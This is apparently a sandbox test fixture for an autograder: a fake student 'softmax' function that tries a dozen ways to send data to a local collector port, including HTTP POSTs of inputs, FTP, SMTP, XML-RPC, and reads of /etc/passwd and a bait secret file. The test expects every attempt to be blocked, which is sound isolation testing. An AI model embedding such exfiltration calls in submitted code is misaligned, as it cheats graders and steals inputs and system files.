"""What a student would really write to phone home: urllib, http, ftp, mail, a proxy of the environment."""

import asyncio
import ftplib
import http.client
import os
import smtplib
import urllib.request
import xmlrpc.client

MUST = {
    "verdicts": {"softmax": "crashed"},
    "says": {"softmax": r"PermissionError: none of \d+ libraries got through"},
}

URL = "http://127.0.0.1:47113/collect?inputs=all"


def proxied():
    """Through a proxy that the environment names."""
    os.environ["http_proxy"] = "http://127.0.0.1:47113"
    urllib.request.urlopen("http://example.invalid/", timeout=0.2)


def request():
    """A request with a body."""
    line = http.client.HTTPConnection("127.0.0.1", 47113, timeout=0.2)
    line.request("POST", "/collect", b"all inputs")


def coroutine():
    """An event loop, which wants sockets for itself."""

    async def speak():
        _, writer = await asyncio.open_connection("127.0.0.1", 47113)
        writer.write(b"hello")

    asyncio.run(speak())


WAYS = {
    "urllib": lambda: urllib.request.urlopen(URL, timeout=0.2),
    "urllib over IPv6": lambda: urllib.request.urlopen("http://[::1]:47113/", timeout=0.2),
    "urllib with ftp": lambda: urllib.request.urlopen("ftp://127.0.0.1:47113/x", timeout=0.2),
    "urllib with a file": lambda: urllib.request.urlopen("file:///etc/passwd", timeout=0.2),
    "urllib with a file of bait": lambda: urllib.request.urlopen("file:///tmp/autograder-bait/secret.txt", timeout=0.2),
    "a proxy": proxied,
    "http": request,
    "https": lambda: http.client.HTTPSConnection("127.0.0.1", 47113, timeout=0.2).request("GET", "/"),
    "ftp": lambda: ftplib.FTP().connect("127.0.0.1", 47113, 0.2),
    "mail": lambda: smtplib.SMTP("127.0.0.1", 47113, timeout=0.2),
    "xmlrpc": lambda: xmlrpc.client.ServerProxy("http://127.0.0.1:47113/").collect("inputs"),
    "asyncio": coroutine,
}


def softmax(Z):
    """Phone home."""
    through = []
    for name, way in WAYS.items():
        try:
            way()
            through.append(name)
        except (OSError, ImportError):
            pass
    if through:
        raise RuntimeError(f"got through: {', '.join(through)}")
    raise PermissionError(f"none of {len(WAYS)} libraries got through")
